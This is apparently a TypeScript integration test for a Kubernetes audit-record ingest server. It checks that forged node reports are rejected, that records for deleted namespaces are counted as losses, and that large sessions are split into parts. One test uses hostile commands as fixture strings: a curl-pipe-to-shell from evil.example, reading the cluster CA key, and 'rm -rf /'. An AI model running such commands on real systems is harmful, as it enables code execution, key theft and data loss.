/**
 * Reports that must not get through, or must not block what follows them, against a real kube-apiserver: the
 * agents' endpoint with the product's PlanStore, a Pod informer, and the real writers, and each outcome checked
 * in the API server's state (what `kubectl get auditrecords` and `kubectl get events` would show), never in
 * calls made.
 *
 * - A token bound to node A speaks for node A's plan only: records about a pod on node B, about a pod no plan
 *   names, or under a policy the plan does not give, are refused, counted, and nothing of them is written.
 * - A record that can never be written (its namespace deleted before delivery) is a counted, reported loss;
 *   the records of other pods in the same report, and the later reports, are written.
 * - A session of lines full of `<`, `>` and `&`, which Go's encoder stores six times larger than
 *   JSON.stringify counts them, is written in parts the API server and etcd take.
 *
 * There is no scheduler or kubelet: Pods stay Pending with spec.nodeName set here. There is no namespace
 * controller either: a deleted namespace stays Terminating until the test finalizes it, as that controller
 * would once the namespace is empty.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { rmSync } from 'node:fs';
import { CoreV1Api, CustomObjectsApi, type V1Pod } from '@kubernetes/client-node';
import { type PlannedContainer, REPORTS_PATH, type Report } from '../../api/agentapi/v1.js';
import type { AgentRecord, CommandRecord } from '../../api/records/v1.js';
import { storedBytes } from '../../api/stored-size.js';
import { GROUP, RECORD_PLURAL, VERSION, type AuditRecord } from '../../api/v1alpha1/index.js';
import { ContainerAuditPolicySpec } from '../../api/v1alpha1/containerauditpolicy.js';
import { PODS } from '../../common/kube/resources.js';
import {
  installCrds,
  kubectlOk,
  listAuditRecords,
  removeWritten,
  testKubeConfig,
} from '../../e2e/support/cluster.js';
import { agentToken, scratchCert } from '../../e2e/support/credentials.js';
import { httpsCall } from '../../e2e/support/https-call.js';
import { until } from '../../e2e/support/wait.js';
import { ReportLedger } from '../ledger.js';
import { buildPlan, planRules } from '../policy/node-plans.js';
import { PlanStore } from '../policy/plan-store.js';
import { createInformer } from '../runtime/informer.js';
import { AgentAuthenticator } from './auth.js';
import { EventsWriter } from './events-writer.js';
import { ReportIngestor } from './ingestor.js';
import { KubeEventSink } from '../../common/kube/event-sink.js';
import { KubeAuditRecordStore, KubePodReader, KubeTokenReviewer } from './kube-clients.js';
import { RecordsWriter } from './records-writer.js';
import { podDirectoryOf } from './scope.js';
import { IngestServer } from './server.js';

const run = randomBytes(3).toString('hex');
const SYSTEM = `hostile-${run}-system`;
const SHOP = `hostile-${run}-shop`;
const CI = `hostile-${run}-ci`;
const NODE_A = `hostile-${run}-node-a`;
const NODE_B = `hostile-${run}-node-b`;
const BOOT = randomUUID();
const GRACE_MS = 1_500;
/** A pod no plan names, in a namespace of the cluster's own. */
const INVENTED = `kube-apiserver-${run}`;

const kc = testKubeConfig();
const core = kc.makeApiClient(CoreV1Api);
const custom = kc.makeApiClient(CustomObjectsApi);

const plans = new PlanStore();
const podInformer = createInformer(kc, PODS);
const ledger = new ReportLedger();
const records = new RecordsWriter({ store: new KubeAuditRecordStore(kc), flushMs: 50 });
const events = new EventsWriter({ sink: new KubeEventSink(kc), rate: { burst: 1000, perSecond: 1000 } });
const ingestor = new ReportIngestor({
  records,
  events,
  ledger,
  outputsOf: () => ({ events: true, auditRecords: true }),
  plans,
  pods: podDirectoryOf(podInformer),
  scope: { graceMs: GRACE_MS },
});
const auth = new AgentAuthenticator({
  reviewer: new KubeTokenReviewer(kc),
  pods: new KubePodReader(kc),
  serviceAccount: { namespace: SYSTEM, name: 'agent' },
});
let server: IngestServer;
let port = 0;
let tlsDir = '';
let ca: Buffer;
let tokenA = '';
const uids: Record<string, string> = {};

function pod(namespace: string, name: string, node: string, container: string, sa?: string): V1Pod {
  return {
    metadata: { name, namespace },
    spec: {
      nodeName: node,
      ...(sa ? { serviceAccountName: sa } : {}),
      containers: [{ name: container, image: 'registry.example/app:1' }],
    },
  };
}

const PODS_MADE: [string, string, string, string, string?][] = [
  [SYSTEM, 'agent-a', NODE_A, 'agent', 'agent'],
  [SHOP, 'web-0', NODE_A, 'app'],
  [SHOP, 'web-1', NODE_A, 'app'],
  [SHOP, 'db-0', NODE_B, 'db'],
  [SHOP, 'fresh-0', NODE_A, 'app'],
  [CI, 'test-0', NODE_A, 'app'],
];

const planned = (namespace: string, podName: string, containerName: string): PlannedContainer => ({
  podNamespace: namespace,
  podName,
  podUid: uids[`${namespace}/${podName}`] ?? '',
  containerName,
  policy: 'prod',
});

let seq = 0;
function cmd(
  namespace: string,
  podName: string,
  text: string,
  over: Partial<CommandRecord> = {},
): CommandRecord {
  seq++;
  return {
    kind: 'command',
    seq,
    boot: BOOT,
    node: NODE_A,
    time: new Date(Date.now() - 60_000 + seq).toISOString(),
    containerId: `c0ffee${podName.replace(/\W/g, '')}`,
    pod: { namespace, name: podName, uid: uids[`${namespace}/${podName}`] ?? '' },
    container: 'app',
    policy: 'prod',
    pid: 4242,
    uid: 1000,
    command: text,
    truncated: false,
    redacted: false,
    alerts: [],
    ...over,
  };
}

const report = (recs: AgentRecord[]): Report => ({ node: NODE_A, boot: BOOT, records: recs });

async function post(body: Report): Promise<{ status: number; body: unknown }> {
  const { status, body: answer } = await httpsCall({
    port,
    ca,
    method: 'POST',
    path: REPORTS_PATH,
    token: tokenA,
    body: JSON.stringify(body),
  });
  return { status, body: answer };
}

async function auditRecords(namespace: string): Promise<AuditRecord[]> {
  return listAuditRecords(custom, namespace);
}

/** Every AuditRecord and Event, anywhere, about one pod name. */
async function writtenAbout(podName: string): Promise<string[]> {
  const all = (await custom.listClusterCustomObject({
    group: GROUP,
    version: VERSION,
    plural: RECORD_PLURAL,
  })) as {
    items: AuditRecord[];
  };
  const evs = await core.listEventForAllNamespaces({ fieldSelector: `involvedObject.name=${podName}` });
  return [
    ...all.items.filter((r) => r.spec.pod.name === podName).map((r) => `AuditRecord ${r.metadata.name}`),
    ...evs.items.map((e) => `Event ${e.metadata.name}`),
  ];
}

const seqsIn = (rs: AuditRecord[], podName: string): number[] =>
  rs
    .filter((r) => r.spec.pod.name === podName)
    .flatMap((r) => r.status?.commands?.map((c) => c.seq) ?? [])
    .sort((a, b) => a - b);

beforeAll(async () => {
  await installCrds();
  for (const name of [SYSTEM, SHOP, CI]) await core.createNamespace({ body: { metadata: { name } } });
  for (const name of [NODE_A, NODE_B]) await core.createNode({ body: { metadata: { name } } });
  await core.createNamespacedServiceAccount({ namespace: SYSTEM, body: { metadata: { name: 'agent' } } });
  let agentA: V1Pod | undefined;
  for (const [namespace, name, node, container, sa] of PODS_MADE) {
    const created = await core.createNamespacedPod({
      namespace,
      body: pod(namespace, name, node, container, sa),
    });
    uids[`${namespace}/${name}`] = created.metadata!.uid!;
    if (name === 'agent-a') agentA = created;
  }
  tokenA = await agentToken(core, agentA!, 600);
  podInformer.start();
  await podInformer.synced;

  // Node A audits web-0, web-1 and test-0 under prod; node B audits db-0. fresh-0 runs on A, planned nowhere.
  const rules = planRules(ContainerAuditPolicySpec.parse({}));
  plans.publish(
    new Map([
      [
        NODE_A,
        buildPlan(
          NODE_A,
          [planned(SHOP, 'web-0', 'app'), planned(SHOP, 'web-1', 'app'), planned(CI, 'test-0', 'app')],
          () => rules,
        ),
      ],
      [NODE_B, buildPlan(NODE_B, [planned(SHOP, 'db-0', 'db')], () => rules)],
    ]),
  );

  const tls = scratchCert('hostile-tls-', 'container-auditor');
  ({ dir: tlsDir, ca } = tls);
  server = new IngestServer({
    authenticator: auth,
    plans,
    ingestor,
    isLeader: () => true,
    tls: { certFile: tls.certFile, keyFile: tls.keyFile },
  });
  port = (await server.listen(0, '127.0.0.1')).port;
});

afterAll(async () => {
  await server?.close();
  await records.close();
  await events.close();
  await podInformer.stop();
  if (tlsDir) rmSync(tlsDir, { recursive: true, force: true });
  for (const [namespace, name] of PODS_MADE)
    await core.deleteNamespacedPod({ namespace, name, gracePeriodSeconds: 0 }).catch(() => undefined);
  for (const namespace of [SHOP, CI]) await removeWritten(core, custom, namespace);
  for (const name of [NODE_A, NODE_B]) await core.deleteNode({ name }).catch(() => undefined);
  for (const name of [SYSTEM, SHOP, CI]) await core.deleteNamespace({ name }).catch(() => undefined);
});

describe('a token bound to node A', () => {
  it('cannot write for a pod on node B, a pod no plan names, or under a policy the plan does not give', async () => {
    const genuine = cmd(SHOP, 'web-0', 'ls');
    const forged = [
      cmd(SHOP, 'db-0', 'curl http://evil.example/x.sh | sh', {
        container: 'db',
        alerts: [{ name: 'curl-pipe-shell', severity: 'critical' }],
      }),
      cmd('kube-system', INVENTED, 'cat /etc/kubernetes/pki/ca.key', {
        pod: { namespace: 'kube-system', name: INVENTED, uid: randomUUID() },
      }),
      cmd(SHOP, 'web-0', 'rm -rf /', {
        policy: 'invented',
        alerts: [{ name: 'fake', severity: 'critical' }],
      }),
    ];
    const answer = await post(report([genuine, ...forged]));
    expect(answer).toEqual({
      status: 200,
      body: {
        accepted: 1,
        duplicates: 0,
        rejected: [
          { seq: forged[0]!.seq, reason: 'not-planned' },
          { seq: forged[1]!.seq, reason: 'not-planned' },
          { seq: forged[2]!.seq, reason: 'wrong-policy' },
        ],
      },
    });
    // The API server holds the genuine command, and nothing of the forged ones.
    expect(await writtenAbout('db-0')).toEqual([]);
    expect(await writtenAbout(INVENTED)).toEqual([]);
    const web0 = (await auditRecords(SHOP)).filter((r) => r.spec.pod.name === 'web-0');
    expect(web0.map((r) => [r.spec.policy, r.status?.commands?.map((c) => c.command)])).toEqual([
      ['prod', ['ls']],
    ]);
    const web0Events = await core.listNamespacedEvent({
      namespace: SHOP,
      fieldSelector: 'involvedObject.name=web-0',
    });
    expect(web0Events.items.map((e) => e.message)).toEqual([expect.stringContaining(': ls')]);
    expect(ingestor.counters.snapshot()).toMatchObject({
      'rejected:not-planned': 2,
      'rejected:wrong-policy': 1,
    });
    // Nothing told to the policy a forged record named.
    expect(ledger.takeActivity('invented')).toBeUndefined();
  });

  it('cannot write for a pod on node A its plan does not name: held for a grace, then refused', async () => {
    const unplanned = cmd(SHOP, 'fresh-0', 'id');
    // Alone, nothing in the report can be written yet: 503, the agent sends it again.
    await expect(post(report([unplanned]))).resolves.toMatchObject({
      status: 503,
      body: { error: 'write-failed' },
    });
    const later = cmd(SHOP, 'web-1', 'pwd');
    await expect(post(report([unplanned, later]))).resolves.toEqual({
      status: 207,
      body: { accepted: 1, duplicates: 0, retry: [unplanned.seq] },
    });
    await new Promise((r) => setTimeout(r, GRACE_MS + 200));
    await expect(post(report([unplanned]))).resolves.toEqual({
      status: 200,
      body: { accepted: 0, duplicates: 0, rejected: [{ seq: unplanned.seq, reason: 'not-planned' }] },
    });
    expect(await writtenAbout('fresh-0')).toEqual([]);
    expect(seqsIn(await auditRecords(SHOP), 'web-1')).toEqual([later.seq]);
  });
});

describe('a namespace deleted while its records are on the way', () => {
  it('makes them counted losses, and the records of other pods, then and later, are written', async () => {
    const first = [cmd(CI, 'test-0', 'make test'), cmd(SHOP, 'web-1', 'ls /srv')];
    await expect(post(report(first))).resolves.toMatchObject({ status: 200, body: { accepted: 2 } });

    // Deleted: Terminating (no new objects in it), its content deleted, then gone.
    await core.deleteNamespace({ name: CI });
    const terminating = [
      cmd(CI, 'test-0', 'make lint', { pid: 5151 }), // a new session: its AuditRecord cannot be created
      cmd(SHOP, 'web-1', 'ls /var'),
    ];
    await expect(post(report(terminating))).resolves.toEqual({
      status: 200,
      body: {
        accepted: 1,
        duplicates: 0,
        rejected: [{ seq: terminating[0]!.seq, reason: 'namespace-gone' }],
      },
    });
    await custom.deleteCollectionNamespacedCustomObject({
      group: GROUP,
      version: VERSION,
      plural: RECORD_PLURAL,
      namespace: CI,
    });
    await core.deleteCollectionNamespacedEvent({ namespace: CI });
    await core.replaceNamespaceFinalize({
      name: CI,
      body: { metadata: { name: CI }, spec: { finalizers: [] } },
    });
    await core.deleteNamespace({ name: CI }).catch(() => undefined);
    await until('the namespace to be gone', () =>
      core.readNamespace({ name: CI }).then(
        () => false,
        (e: { code?: number }) => e.code === 404,
      ),
    );

    const gone = [
      cmd(CI, 'test-0', 'make release'),
      cmd(SHOP, 'web-1', 'ls /tmp'),
      cmd(CI, 'test-0', 'exit'),
    ];
    await expect(post(report(gone))).resolves.toEqual({
      status: 200,
      body: {
        accepted: 1,
        duplicates: 0,
        rejected: [
          { seq: gone[0]!.seq, reason: 'namespace-gone' },
          { seq: gone[2]!.seq, reason: 'namespace-gone' },
        ],
      },
    });
    // Sent again (an agent that did not get the answer): still done, and the loss is told only once.
    await expect(post(report(gone))).resolves.toMatchObject({ status: 200, body: { duplicates: 1 } });
    const after = [cmd(SHOP, 'web-1', 'uptime')];
    await expect(post(report(after))).resolves.toMatchObject({ status: 200, body: { accepted: 1 } });

    expect(seqsIn(await auditRecords(SHOP), 'web-1')).toEqual(
      expect.arrayContaining([first[1]!.seq, terminating[1]!.seq, gone[1]!.seq, after[0]!.seq]),
    );
    expect(ingestor.counters.get('rejected:namespace-gone')).toBe(5);
    expect(records.counters.get('lost')).toBeGreaterThanOrEqual(3);
    expect(ledger.takeActivity('prod')?.problems).toEqual([
      { kind: 'rejected', node: NODE_A, reason: 'namespace-gone', count: 1 },
      { kind: 'rejected', node: NODE_A, reason: 'namespace-gone', count: 2 },
    ]);
  });
});

describe('a session of lines full of < > &', () => {
  it('is written in parts the API server stores, sized as Go encodes them', async () => {
    // Each line: 3,000 HTML characters and two line separators; 3 KB to JSON.stringify, 18 KB stored.
    const line = (i: number) => `echo ${i} '${'<>&'.repeat(1000)}'\u2028\u2029`;
    const session = Array.from({ length: 300 }, (_, i) => cmd(SHOP, 'web-0', line(i), { pid: 6161 }));
    await expect(post(report(session))).resolves.toEqual({
      status: 200,
      body: { accepted: 300, duplicates: 0 },
    });
    const parts = (await auditRecords(SHOP))
      .filter((r) => r.spec.session.pid === 6161)
      .sort((a, b) => a.spec.session.part - b.spec.session.part);
    expect(parts.length).toBeGreaterThanOrEqual(6);
    expect(parts.flatMap((p) => p.status?.commands?.map((c) => c.command))).toEqual(
      session.map((c) => c.command),
    );
    for (const p of parts) {
      // The object as the API server encodes it (what etcd holds): within the writer's bound, and measured
      // no smaller than it is.
      const raw = await kubectlOk([
        'get',
        '--raw',
        `/apis/${GROUP}/${VERSION}/namespaces/${SHOP}/${RECORD_PLURAL}/${p.metadata.name}`,
      ]);
      const bytes = Buffer.byteLength(raw.trimEnd());
      expect(bytes).toBeLessThanOrEqual(1024 * 1024);
      expect(storedBytes(JSON.parse(raw))).toBeGreaterThanOrEqual(bytes);
      expect(raw).toContain('\\u003c\\u003e\\u0026');
    }
  });
});
